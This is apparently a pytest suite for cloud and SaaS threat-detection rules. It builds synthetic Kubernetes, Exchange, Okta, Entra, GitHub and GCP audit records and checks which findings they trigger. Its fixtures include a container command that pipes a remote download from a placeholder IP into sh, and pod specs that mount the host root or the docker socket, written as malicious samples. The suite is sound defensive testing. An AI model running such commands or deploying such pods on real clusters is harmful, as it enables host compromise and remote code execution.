"""Rules on clusters, mail and tenants: every call that a rule names, from the raw record to the finding, and neighbours beside the line."""

import pytest

from incidents import OUTSIDE, clock, examples, found
from telemetry.importers import import_records
from verifier import RULES
from verifier.rules import cloud_data, cloud_defences, kubernetes, mail, saas

PERSON = "ana@corp.example"
INSIDE = "10.20.1.11"


def imported(record, at=0):
    """A row that the importers make of a raw record."""
    (draft,) = import_records([record])
    return {
        "event_type": draft.event_type,
        "fields": draft.fields.model_dump(exclude_none=True),
        "timestamp": clock(at),
    }


def said(rule_id, *rows):
    """How strong a rule's findings are, once each."""
    return sorted({line.split()[1] for line in found(*rows) if line.startswith(f"{rule_id} ")})


def kube(
    operation,
    body=None,
    at=0,
    *,
    user=PERSON,
    name="x",
    namespace="default",
    source=INSIDE,
    code=200,
    impersonated=None,
):
    verb, _, thing = operation.partition(" ")
    resource, _, subresource = thing.partition("/")
    reference = {"resource": resource, "subresource": subresource, "namespace": namespace, "name": name}
    record = {
        "kind": "Event",
        "auditID": f"{operation}{at}{name}",
        "stage": "ResponseComplete",
        "verb": verb,
        "user": {"username": user},
        "sourceIPs": [source],
        "objectRef": {key: value for key, value in reference.items() if value},
        "responseStatus": {"code": code},
        "requestReceivedTimestamp": clock(at),
        "requestObject": body,
        "impersonatedUser": impersonated,
    }
    return imported(record, at)


def refused_to(user, count):
    """Different calls of one account that the cluster refuses."""
    things = ("secrets", "pods", "nodes", "configmaps", "jobs")
    return [kube(f"list {thing}", None, n, user=user, code=403) for n, thing in enumerate(things[:count])]


def okta(operation, target=None, at=0, *, actor=PERSON, kind="User", result="SUCCESS"):
    record = {
        "eventType": operation,
        "published": clock(at),
        "actor": {"type": kind, "alternateId": actor},
        "client": {"ipAddress": OUTSIDE},
        "outcome": {"result": result},
        "target": [{"type": "User", "alternateId": target}] if target else None,
    }
    return imported(record, at)


def entra(operation, *changes, at=0, actor=PERSON, target="ben@corp.example", kind="user", result="success"):
    by = {"user": {"userPrincipalName": actor}} if kind == "user" else {"app": {"displayName": actor}}
    properties = [{"displayName": name, "oldValue": old, "newValue": new} for name, old, new in changes]
    record = {
        "TimeGenerated": clock(at),
        "LoggedByService": "Core Directory",
        "OperationName": operation,
        "Result": result,
        "InitiatedBy": by,
        "TargetResources": [{"type": "User", "userPrincipalName": target, "modifiedProperties": properties}],
    }
    return imported(record, at)


def github(action, at=0, *, actor="ana", **more):
    record = {"action": action, "actor": actor, "@timestamp": 1_772_442_000_000, "org": "corp", **more}
    return imported(record, at)


def workspace(name, at=0, *, actor=PERSON, application="admin", **parameters):
    rows = [{"name": key, "value": value} for key, value in parameters.items()]
    record = {
        "kind": "admin#reports#activity",
        "id": {"time": clock(at), "applicationName": application, "customerId": "C1"},
        "actor": {"email": actor, "callerType": "USER"},
        "events": [{"name": name, "parameters": rows}],
    }
    return imported_from_list(record, at)


def imported_from_list(record, at):
    from telemetry.importers.unwrapping import unwrap

    (raw,) = unwrap(record)
    return imported(raw, at)


def gcp(method, request=None, at=0, *, deltas=None, service="iam.googleapis.com", actor=PERSON):
    payload = {
        "serviceName": service,
        "methodName": method,
        "authenticationInfo": {"principalEmail": actor},
        "requestMetadata": {"callerIp": OUTSIDE},
        "resourceName": "projects/p",
        "request": request or {"name": "n"},
    }
    if deltas:
        payload["serviceData"] = {"policyDelta": {"bindingDeltas": deltas}}
    return imported({"timestamp": clock(at), "protoPayload": payload, "logName": "x", "insertId": f"{at}"}, at)


def exchange(operation, at=0, *, actor=PERSON, **parameters):
    record = {
        "CreationTime": clock(at),
        "Workload": "Exchange",
        "Operation": operation,
        "UserId": actor,
        "UserType": 2,
        "ResultStatus": "True",
        "ObjectId": "box",
        "Parameters": [{"Name": name, "Value": value} for name, value in parameters.items()],
    }
    return imported(record, at)


# ---------------------------------------------------------------- Kubernetes
def pod(*, host=None, **security):
    volumes = [{"name": "h", "hostPath": {"path": host}}] if host else []
    return {"spec": {"containers": [{"name": "c", "securityContext": security}], "volumes": volumes}}


ADMIN = {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "ana"}]}
STRONG = {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
FETCHING = {"spec": {"containers": [{"name": "c", "command": ["sh", "-c", "curl http://203.0.113.9/a | sh"]}]}}
KUBE = {
    "kube-pod-on-host": {
        f"{verb} {thing}": pod(privileged=True) for verb in kubernetes._CHANGES for thing in kubernetes._WORKLOADS
    },
    "kube-shell-in-pod": dict.fromkeys(kubernetes._SHELL_CALLS),
    "kube-admin-bound": {
        **{f"{verb} {thing}": ADMIN for verb in kubernetes._CHANGES for thing in kubernetes._BINDINGS},
        **{f"{verb} {thing}": STRONG for verb in kubernetes._CHANGES for thing in kubernetes._ROLES},
    },
    "kube-token-made": {
        **dict.fromkeys(kubernetes._TOKEN_CALLS),
        "create secrets": {"type": "kubernetes.io/service-account-token"},
    },
    "kube-hook-changed": dict.fromkeys(kubernetes._HOOK_CALLS),
    "kube-workload-planted": {
        f"{verb} {thing}": FETCHING for verb in kubernetes._CHANGES for thing in kubernetes._WORKLOADS
    },
    "kube-traces-deleted": dict.fromkeys(kubernetes._TRACE_CALLS),
    "kube-workloads-deleted": {f"deletecollection {thing}": None for thing in kubernetes._STORED},
}


@pytest.mark.parametrize(
    ("rule_id", "operation", "body"),
    [(rule_id, operation, body) for rule_id, calls in KUBE.items() for operation, body in calls.items()],
)
def test_each_call_to_a_cluster_is_found_in_a_raw_record_but_not_a_controller_s(rule_id, operation, body):
    assert said(rule_id, kube(operation, body)) != []
    for user in ("system:serviceaccount:kube-system:daemon-set-controller", "system:node:n1", "system:apiserver"):
        assert found(kube(operation, body, user=user)) == []


CASES = {
    "kube-pod-on-host": [
        ("confirmed", [kube("create pods", pod(privileged=True, host="/"))]),
        ("suspicious", [kube("create pods", pod(host="/"))]),
        ("suspicious", [kube("create pods", pod(host="/var/run/docker.sock"))]),
        ("suspicious", [kube("create pods", pod(capabilities={"add": ["CAP_SYS_ADMIN"]}))]),
        ("suspicious", [kube("create pods", {"spec": {"hostPID": True}})]),
        ("suspicious", [kube("create daemonsets", pod(privileged=True, host="/"))]),
        *(("suspicious", [kube("create pods", pod(host=f"{run}{socket}"))])
          for run in ("/run", "/var/run") for socket in ("/containerd/containerd.sock", "/crio/crio.sock", "/docker.sock")),
        *(("suspicious", [kube("create pods", pod(host=path))]) for path in ("/var/lib/kubelet/pki", "/var", "/var/run", "/var/lib/docker", "/etc/kubernetes/pki", "/etc/kubernetes/manifests/")),
        *(("suspicious", [kube("create pods", pod(capabilities={"add": [power]}))]) for power in kubernetes._POWERS),
        ("", [kube("create pods", pod(host="/run/app"))]),
        ("", [kube("create pods", pod(privileged=False, host="/var/log/app", capabilities={"drop": ["ALL"]}))]),
        ("", [kube("create pods", pod(privileged=True), code=403)]),
    ],
    "kube-shell-in-pod": [("", [kube("get pods/log"), kube("create pods/exec", code=403)])],
    "kube-secrets-read": [
        ("suspicious", [kube("list secrets", namespace="", name="")]),
        ("suspicious", [kube("list secrets", None, n, namespace=f"n{n}", name="") for n in range(3)]),
        ("suspicious", [kube("get secrets", None, 150 * n, name=f"s{n}") for n in range(5)]),
        ("suspicious", [kube("list secrets", namespace="", name="", user="system:serviceaccount:shop:default")]),
        ("suspicious", [kube("list secrets", namespace="", name="", user="system:serviceaccount:vault:vault", source=OUTSIDE)]),
        ("suspicious", [kube("list secrets", name="", user="system:serviceaccount:shop:default")]),
        ("", [kube("list secrets", name="", user="system:serviceaccount:shop:web"), kube("list secrets", name="")]),
        ("", [kube("watch secrets", namespace="", name="", user="system:serviceaccount:vault:vault")]),
        ("", [kube("list secrets", None, n, name="") for n in range(3)]),
        ("", [kube("get secrets", None, n, name=f"s{n}") for n in range(4)]),
        ("", [kube("get secrets", None, n, name="s") for n in range(9)]),
    ],
    "kube-admin-bound": [
        ("confirmed", [kube("create clusterrolebindings", {"roleRef": {"name": "view"}, "subjects": [{"name": "system:anonymous"}]})]),
        ("suspicious", [kube("create roles", {"rules": [{"resources": ["roles"], "verbs": ["escalate"]}]})]),
        ("suspicious", [kube("patch configmaps", name="aws-auth", namespace="kube-system")]),
        ("", [kube("patch configmaps", name="settings")]),
        ("", [kube("create rolebindings", {"roleRef": {"name": "view"}, "subjects": [{"name": "ben"}]})]),
        ("", [kube("create roles", {"rules": [{"resources": ["pods"], "verbs": ["*"]}]})]),
    ],
    "kube-anonymous": [
        ("suspicious", [kube("list pods", user="system:anonymous")]),
        ("confirmed", [kube("list secrets", user="system:anonymous")]),
        ("confirmed", [kube("create pods", user="system:anonymous")]),
        ("", [kube("get configmaps", user="system:anonymous", namespace="kube-public")]),
        ("", [imported({"verb": "get", "auditID": "a", "requestURI": "/healthz", "user": {"username": "system:anonymous"}, "responseStatus": {"code": 200}})]),
        ("", [kube("list pods", user="system:anonymous", code=403), kube("create selfsubjectaccessreviews", user="system:anonymous")]),
    ],
    "kube-token-made": [("", [kube("create serviceaccounts/token", user="system:serviceaccount:vault:vault")]), ("", [kube("create secrets", {"type": "Opaque"})])],
    "kube-hook-changed": [
        ("suspicious", [kube("patch validatingwebhookconfigurations", user="system:serviceaccount:shop:default")]),
        ("", [kube("patch validatingwebhookconfigurations", user="system:serviceaccount:certs:injector")]),
        ("", [kube("list validatingwebhookconfigurations")]),
        *(("suspicious", [kube(operation, name="coredns", namespace="kube-system")]) for operation in kubernetes._NAME_CALLS),
        ("", [kube("update configmaps", name="settings"), kube("update configmaps", name="coredns", user="eks:addon-manager")]),
    ],
    "kube-workload-planted": [
        ("suspicious", [kube("create cronjobs", namespace="kube-system")]),
        *(("suspicious", [kube(operation, namespace="kube-system")]) for operation in kubernetes._SYSTEM_CALLS),
        ("", [kube("create cronjobs", {"spec": {"command": ["curl", "http://shop.internal/health"]}})]),
    ],
    "kube-traces-deleted": [("", [kube("list events")])],
    "kube-workloads-deleted": [
        ("suspicious", [kube("delete deployments", None, 150 * n, name=f"d{n}") for n in range(5)]),
        ("", [kube("delete deployments", None, n, name=f"d{n}") for n in range(4)]),
        ("", [kube("delete pods", None, n, name=f"p{n}") for n in range(9)]),
    ],
    "kube-account-misused": [
        ("suspicious", [kube("list pods", user="system:serviceaccount:shop:web", source=OUTSIDE)]),
        ("suspicious", [kube("create selfsubjectrulesreviews", user="system:serviceaccount:shop:web")]),
        ("", [kube("list pods", user="system:serviceaccount:shop:web"), kube("list pods", source=OUTSIDE)]),
        ("suspicious", [kube("list pods", user="system:serviceaccount:kube-system:ttl-controller", source=OUTSIDE)]),
        ("", [kube("list secrets", user="system:serviceaccount:kube-system:ttl-controller")]),
        ("suspicious", refused_to("system:serviceaccount:shop:web", 5)),
        ("", refused_to("system:serviceaccount:shop:web", 4)),
        ("suspicious", [kube("get pods", impersonated={"username": "ben", "groups": ["system:masters"]})]),
        ("", [kube("get pods", impersonated={"username": "ben", "groups": ["developers"]}), kube("get pods", {"note": "system:masters"})]),
        ("", refused_to("system:serviceaccount:kube-system:ttl-controller", 5)),
        ("", [kube("list pods", None, n, user="system:serviceaccount:shop:web", code=403) for n in range(20)]),
    ],
}  # fmt: skip
# ---------------------------------------------------------------- mail
MAIL = {
    "mail-rule-hides": [exchange(name, ForwardTo="x@elsewhere.example") for name in (*mail._RULE_CALLS, "Set-Mailbox")],
    "mail-flow-changed": [
        *(exchange(name, BlindCopyTo="x@elsewhere.example") for name in mail._FLOW_CALLS),
        *(workspace(name, SETTING_NAME="EMAIL_ROUTE") for name in mail._ROUTE_CALLS),
    ],
    "mailbox-opened": [exchange(name, User="Default") for name in mail._RIGHT_CALLS],
    "mail-guard-removed": [exchange(name, Identity="x") for name in mail._GUARD_CALLS],
    "mail-audit-off": [exchange(name, AuditEnabled="False") for name in mail._AUDIT_CALLS],
    "cloud-mail-read": [exchange("MailItemsAccessed", actor="5a95e683-08ad")],
}
CASES |= {
    "mail-rule-hides": [
        ("confirmed", [exchange("Set-InboxRule", ForwardTo="x@elsewhere.example", DeleteMessage="True")]),
        ("suspicious", [exchange("New-InboxRule", MoveToFolder="RSS Subscriptions")]),
        ("suspicious", [exchange("Set-Mailbox", ForwardingSmtpAddress="smtp:x@elsewhere.example")]),
        ("", [exchange("New-InboxRule", ForwardTo="ben@corp.example"), exchange("Set-InboxRule", MoveToFolder="Projects"), exchange("Set-Mailbox", Language="de-CH")]),
    ],
    "mail-flow-changed": [
        ("", [exchange("New-TransportRule", ApplyHtmlDisclaimerText="confidential")]),
        ("", [workspace("CREATE_GMAIL_SETTING", SETTING_NAME="APPEND_FOOTER")]),
    ],
    "mailbox-opened": [
        ("", [exchange("Add-MailboxPermission", actor="NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)", User="Discovery Management")]),
        ("", [exchange("Add-MailboxFolderPermission", User="ben"), exchange("Remove-MailboxPermission", User="ben")]),
    ],
    "mail-guard-removed": [("", [exchange("Enable-AntiPhishRule", Identity="x")])],
    "mail-audit-off": [("", [exchange("Set-Mailbox", AuditEnabled="True")])],
    "cloud-mail-read": [("", [exchange("MailItemsAccessed")])],
}  # fmt: skip
# ---------------------------------------------------------------- tenants
ROLE = ("Role.DisplayName", None, '"Global Administrator"')
KEYS = ("KeyDescription", "[]", '["[KeyType=Password]"]')
SCOPE = ("DelegatedPermissionGrant.Scope", None, '"Mail.ReadWrite offline_access"')
OWNER = [{"action": "ADD", "role": "roles/owner", "member": f"user:{PERSON}"}]
EVERYBODY = [{"action": "ADD", "role": "roles/storage.objectViewer", "member": "allUsers"}]


def platform_of(name, *, target="ben@corp.example"):
    """A raw record of a call, made by the platform that its name belongs to, with what makes it count."""
    if name.isupper() or name.startswith(("email_", "change_")):
        switches = {"NEW_VALUE": "false"} if name in saas._SWITCH_CALLS else {"NEW_VALUE": "people_with_link"}
        return workspace(name, USER_EMAIL=target, **switches)
    if name.startswith(
        (
            "user.",
            "group.privilege",
            "policy.",
            "zone.",
            "system.",
            "iam.",
            "network_zone.",
            "application.",
            "security.",
        )
    ):
        return okta(name, target)
    if name.startswith(("cloudsql.", "packetMirrorings.")):
        service = "cloudsql" if name.startswith("cloudsql.") else "compute"
        return gcp(name if service == "cloudsql" else f"v1.compute.{name}", service=f"{service}.googleapis.com")
    if name.startswith(("AnonymousLink", "SiteCollection")):
        return exchange(name)
    if name.startswith("2sv"):
        return workspace(name, application="user_accounts")
    if name[0].islower():
        return github(name, user=target, permission="admin", visibility="public")
    if "-" in name.partition(" ")[0] or name.startswith("SearchExport"):
        return exchange(name, User=target)
    if "/" in name:
        return imported(
            {
                "operationName": name,
                "time": clock(0),
                "category": "Administrative",
                "resourceId": "/x",
                "resultType": "Success",
                "caller": PERSON,
                "identity": {"claims": {"upn": PERSON}},
            }
        )
    if " " in name:
        return entra(name, ROLE, KEYS, SCOPE, target=target)
    return gcp(f"google.iam.admin.v1.{name}")


TENANT = {
    "tenant-role-granted": (*saas._ROLE_CALLS, *saas._OWNER_CALLS),
    "tenant-factor-reset": (*saas._FACTOR_CALLS, *saas._SWITCH_CALLS),
    "tenant-guard-weakened": saas._GUARD_CALLS,
    "tenant-token-made": (*saas._TOKEN_CALLS, *saas._APPLICATION_CALLS),
    "tenant-consent-wide": (*saas._CONSENT_CALLS, *saas._DELEGATION_CALLS),
    "okta-impersonation": ("user.session.impersonation.initiate", "user.session.impersonation.grant"),
    "code-guard-removed": saas._WATCH_CALLS,
    "content-made-public": saas._PUBLIC_CALLS,
    "code-hook-added": saas._HOOK_CALLS,
    "tenant-data-out": saas._OUT_CALLS,
    "cloud-identity-provider": (
        "Set federation settings on domain",
        "Set domain authentication",
        "system.idp.lifecycle.create",
        "system.idp.lifecycle.activate",
        "CreateWorkloadIdentityPoolProvider",
        "system.agent.ad.create",
        "New-FederatedDomain",
        "Add-FederatedDomain",
        "Add a partner to cross-tenant access setting",
    ),
}


@pytest.mark.parametrize(("rule_id", "name"), [(rule_id, name) for rule_id, names in TENANT.items() for name in names])
def test_each_call_to_a_tenant_is_found_in_a_raw_record(rule_id, name):
    assert said(rule_id, platform_of(name)) != []
    assert name in next(rule.summary for rule in RULES if rule.rule_id == rule_id)


@pytest.mark.parametrize(("rule_id", "row"), [(rule_id, row) for rule_id, rows in MAIL.items() for row in rows])
def test_each_call_on_mail_is_found_in_a_raw_record(rule_id, row):
    assert said(rule_id, row) != []


GOOGLE = {
    "cloud-opened-to-world": [gcp("SetIamPolicy", deltas=EVERYBODY), gcp("storage.setIamPermissions", deltas=EVERYBODY, service="storage.googleapis.com")],
    "tenant-role-granted": [gcp("SetIamPolicy", deltas=OWNER)],
    "cloud-door-opened": [
        gcp(f"v1.compute.{name}", {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "tcp", "ports": ["20-25"]}]}, service="compute.googleapis.com")
        for name in cloud_defences._FIREWALL_CALLS
    ]
    + [
        gcp(name, {"body": {"settings": {"ipConfiguration": {"authorizedNetworks": [{"value": "0.0.0.0/0"}]}}}}, service="cloudsql.googleapis.com")
        for name in cloud_defences._DATABASE_DOORS if name.startswith("cloudsql.")
    ],
    "cloud-detection-off": [gcp(f"google.logging.v2.ConfigServiceV2.{name}", service="logging.googleapis.com") for name in ("DeleteSink", "CreateExclusion")]
    + [gcp("SetIamPolicy", deltas=[{"action": "REMOVE", "service": "allServices", "logType": "DATA_READ"}])]
    + [gcp("google.logging.v2.ConfigServiceV2.UpdateBucket", {"bucket": {"retentionDays": 1}}, service="logging.googleapis.com")],
    "cloud-guardrail-removed": [
        gcp("google.cloud.orgpolicy.v2.OrgPolicy.DeletePolicy", service="orgpolicy.googleapis.com"),
        gcp("google.cloud.orgpolicy.v2.OrgPolicy.UpdatePolicy", {"policy": {"spec": {"rules": [{"enforce": False}]}}}, service="orgpolicy.googleapis.com"),
        gcp("DeleteProject", service="cloudresourcemanager.googleapis.com"),
        *(
            gcp(f"google.identity.accesscontextmanager.v1.AccessContextManager.{name}", service="accesscontextmanager.googleapis.com")
            for name in ("DeleteServicePerimeter", "DeleteAccessLevel", "DeleteAccessPolicy")
        ),
        gcp("google.cloud.resourcemanager.v3.Projects.DeleteProject", service="cloudresourcemanager.googleapis.com"),
    ],
    "cloud-key-destroyed": [gcp("DestroyCryptoKeyVersion", service="cloudkms.googleapis.com")],
    "cloud-machines-misused": [
        gcp("v1.compute.instances.insert", {"machineType": "zones/z/machineTypes/a2-highgpu-8g"}, service="compute.googleapis.com"),
        gcp("v1.compute.instances.insert", {"guestAccelerators": [{"acceleratorType": "nvidia-tesla-t4"}]}, service="compute.googleapis.com"),
    ],
}  # fmt: skip


@pytest.mark.parametrize(("rule_id", "row"), [(rule_id, row) for rule_id, rows in GOOGLE.items() for row in rows])
def test_each_call_to_google_s_cloud_is_found_in_a_raw_record(rule_id, row):
    assert said(rule_id, row) != []


@pytest.mark.parametrize(
    "row",
    [
        gcp("SetIamPolicy", deltas=[{**EVERYBODY[0], "action": "REMOVE"}, {**OWNER[0], "action": "REMOVE"}]),
        gcp("v1.compute.instances.insert", {"machineType": "e2-standard-4"}, service="compute.googleapis.com"),
        gcp("DeleteProject", service="codebuild.googleapis.com"),
        gcp("SetIamPolicy", deltas=[{"action": "ADD", "service": "allServices", "logType": "DATA_READ"}]),
        gcp("SetIamPolicy", deltas=OWNER, actor="service-7@gcp-sa-artifactregistry.iam.gserviceaccount.com"),
        gcp(
            "v1.compute.firewalls.insert",
            {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "tcp", "ports": ["443"]}]},
            service="compute.googleapis.com",
        ),
        gcp(
            "v1.compute.firewalls.insert",
            {"sourceRanges": ["0.0.0.0/0"], "denieds": [{"IPProtocol": "all"}]},
            service="compute.googleapis.com",
        ),
        gcp(
            "google.cloud.orgpolicy.v2.OrgPolicy.UpdatePolicy",
            {"policy": {"spec": {"rules": [{"enforce": True}]}}},
            service="orgpolicy.googleapis.com",
        ),
    ],
)
def test_who_tightens_google_s_cloud_and_its_own_agents_are_no_finding(row):
    assert found(row) == []


def taken(name, count, **who):
    """One caller opens or deletes different things, two seconds apart."""

    def one(n):
        if name.startswith("File"):
            return imported(
                {
                    "CreationTime": clock(n),
                    "Workload": "SharePoint",
                    "Operation": name,
                    "UserId": PERSON,
                    "ObjectId": f"f{n}",
                },
                n,
            )
        if name.startswith("storage."):
            return gcp(name, {"name": f"f{n}"}, n, service="storage.googleapis.com", **who)
        if "." in name:
            return github(name, n, repo=f"corp/r{n}", **who)
        return workspace(name, n, application="drive", doc_id=f"f{n}", **who)

    return [one(2 * n) for n in range(count)]


def version(n, actor=PERSON, source=OUTSIDE):
    """A secret of Google's Secret Manager is read."""
    name = "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion"
    row = gcp(name, {"name": f"s{n}"}, n, service="secretmanager.googleapis.com", actor=actor)
    return {**row, "fields": {**row["fields"], "src_ip": source}}


def leaving(name, count):
    """One administrator removes different accounts, a minute apart."""
    maker = {
        "org.remove_member": lambda n: github(name, n, user=f"u{n}"),
        "DELETE_USER": lambda n: workspace(name, n, USER_EMAIL=f"u{n}@corp.example"),
    }
    by_okta = name.startswith("user.")
    make = maker.get(name) or (
        lambda n: okta(name, f"u{n}@corp.example", n) if by_okta else entra(name, at=n, target=f"u{n}@corp.example")
    )
    return [make(60 * n) for n in range(count)]


def policy_change(old, new):
    return entra("Update conditional access policy", ("ConditionalAccessPolicy", old, new))


CASES |= {
    "tenant-role-granted": [
        ("confirmed", [entra("Add member to role", ROLE, target=PERSON)]),
        ("confirmed", [okta("user.account.privilege.grant", PERSON)]),
        ("suspicious", [entra("Add member to role", ROLE, actor="MS-PIM")]),
        ("", [entra("Add member to role", ROLE, actor="MS-PIM", kind="app"), github("org.add_member", user="ben", permission="read"), entra("Remove member from role", ROLE)]),
        ("", [okta("user.account.privilege.grant", "ben@corp.example", actor="system@okta.com", kind="SystemPrincipal")]),
        ("suspicious", [gcp("google.iam.admin.v1.CreateRole", {"role": {"includedPermissions": ["iam.serviceAccounts.actAs"]}})]),
        ("suspicious", [gcp("google.iam.admin.v1.UpdateRole", {"role": {"includedPermissions": ["storage.buckets.setIamPolicy"]}})]),
        ("", [gcp("google.iam.admin.v1.CreateRole", {"role": {"includedPermissions": ["storage.objects.get"]}})]),
        ("", [github("org.update_default_repository_permission", permission="read")]),
    ],
    "tenant-factor-reset": [
        ("", [okta("user.mfa.factor.deactivate", PERSON), workspace("ENFORCE_STRONG_AUTHENTICATION", NEW_VALUE="true")]),
    ],
    "tenant-guard-weakened": [
        ("suspicious", [policy_change('{"state":"enabled"}', '{"state":"disabled"}')]),
        ("suspicious", [policy_change('{"conditions":{"users":{"excludeUsers":["a"]}}}', '{"conditions":{"users":{"excludeUsers":["a","b"]}}}')]),
        ("", [policy_change('{"state":"disabled"}', '{"state":"enabled"}')]),
        ("", [policy_change('{"conditions":{"users":{"excludeUsers":["a","b"]}}}', '{"conditions":{"users":{"excludeUsers":["a"]}}}'), okta("policy.lifecycle.create")]),
    ],
    "tenant-token-made": [
        ("", [entra("Update application", ("DisplayName", "a", "b")), github("deploy_key.create", read_only=True)]),
    ],
    "tenant-consent-wide": [
        ("suspicious", [entra("Consent to application", ("ConsentContext.IsAdminConsent", None, '"True"'))]),
        ("", [entra("Consent to application", ("ConsentAction.Permissions", None, '"Scope: User.Read openid profile, ConsentType: Principal"'))]),
    ],
    "okta-impersonation": [("", [okta("user.session.end")])],
    "push-fatigue": [
        ("suspicious", [okta("system.push.send_factor_verify_push", PERSON, 150 * n) for n in range(5)]),
        ("confirmed", [*(okta("system.push.send_factor_verify_push", PERSON, n) for n in range(5)), okta("user.session.start", PERSON, 604)]),
        ("suspicious", [*(okta("system.push.send_factor_verify_push", PERSON, n) for n in range(5)), okta("user.session.start", PERSON, 605)]),
        ("suspicious", [okta("user.authentication.auth_via_mfa", PERSON, n, result="FAILURE") for n in range(5)]),
        ("", [okta("user.authentication.auth_via_mfa", PERSON, n) for n in range(9)]),
        ("", [okta("system.push.send_factor_verify_push", PERSON, n) for n in range(4)]),
    ],
    "code-guard-removed": [
        *(("suspicious", [github(name, **{setting: value})]) for name, (setting, values) in saas._LOOSENED.items() for value in values),
        *(("", [github(name, **{setting: "enabled"})]) for name, (setting, _) in saas._LOOSENED.items()),
        ("", [github("secret_scanning.enable"), github("protected_branch.create")]),
    ],
    "content-made-public": [("", [github("repo.access", visibility="private"), workspace("change_document_visibility", NEW_VALUE="private")])],
    "code-hook-added": [("", [github("org.register_self_hosted_runner", actor="runners[bot]"), github("hook.destroy")])],
    "tenant-data-out": [
        *(("suspicious", taken(name, 20)) for name in saas._TAKEN_CALLS),
        *(("", taken(name, 19)) for name in saas._TAKEN_CALLS),
        ("", [taken("git.clone", 1)[0] for _ in range(30)]),
        ("", taken("git.clone", 30, actor="builds[bot]")),
        ("", taken("storage.objects.get", 30, actor="web@p1.iam.gserviceaccount.com")),
        ("suspicious", [gcp("google.cloud.bigquery.v2.JobService.InsertJob", {"extract": {"destinationUris": ["gs://x/y"]}}, service="bigquery.googleapis.com")]),
        ("", [gcp("google.cloud.bigquery.v2.JobService.InsertJob", {"query": {"query": "select 1"}}, service="bigquery.googleapis.com")]),
        ("", [workspace("CHANGE_PASSWORD", USER_EMAIL="ben@corp.example")]),
    ],
    "cloud-secrets-read": [
        ("suspicious", [version(n) for n in range(3)]),
        ("suspicious", [entra("Read BitLocker key", at=n, target=f"pc{n}") for n in range(3)]),
        ("suspicious", [entra("Recover device local administrator password", at=n, target=f"pc{n}") for n in range(3)]),
        ("", [version(n) for n in range(2)]),
        ("suspicious", [version(n, "web@p1.iam.gserviceaccount.com") for n in range(3)]),
        ("", [version(n, "web@p1.iam.gserviceaccount.com", INSIDE) for n in range(9)]),
    ],
    "cloud-stores-deleted": [
        *(("suspicious", taken(name, 20)) for name in (*cloud_data._FILE_CALLS, *cloud_data._DRIVE_CALLS)),
        *(("", taken(name, 19)) for name in (*cloud_data._FILE_CALLS, *cloud_data._DRIVE_CALLS)),
        *(("suspicious", leaving(name, 8)) for name in cloud_data._LEAVING_CALLS),
        *(("", leaving(name, 7)) for name in cloud_data._LEAVING_CALLS),
        ("", [gcp("v1.compute.addresses.delete", {"name": f"a{n}"}, n, service="compute.googleapis.com") for n in range(30)]),
    ],
}  # fmt: skip


@examples(CASES)
def test_what_is_found_and_how_strong(rule_id, strength, rows):
    assert said(rule_id, *rows) == ([strength] if strength else [])


def test_every_rule_is_found_in_some_example_and_not_in_another():
    known = {
        "cloud-stores-deleted",
        "cloud-secrets-read",
        *(rule.rule_id for module in (kubernetes, mail, saas) for rule in module.RULES),
    }

    assert known == set(CASES)
    assert {rule_id for rule_id, cases in CASES.items() if "" in {strength for strength, _ in cases}} == known


def test_no_call_of_a_list_lacks_an_example():
    covered = {name for calls in KUBE.values() for name in calls}
    covered |= {name for names in TENANT.values() for name in names}
    covered |= {row["fields"]["api_operation"] for rows in MAIL.values() for row in rows}
    covered |= {
        *kubernetes._NAME_CALLS,
        *saas._TAKEN_CALLS,
        *saas._PUSH_CALLS,
        *cloud_data._BINDING_CALLS,
        *saas._AZURE_CALLS,
    }  # tests/test_rules_azure.py has the last
    lists = {
        f"{module.__name__}.{name}": value
        for module in (kubernetes, mail, saas)
        for name, value in vars(module).items()
        if name.endswith("_CALLS")
    }

    assert len(lists) >= 15
    assert {name: set(calls) - covered for name, calls in lists.items() if set(calls) - covered} == {}
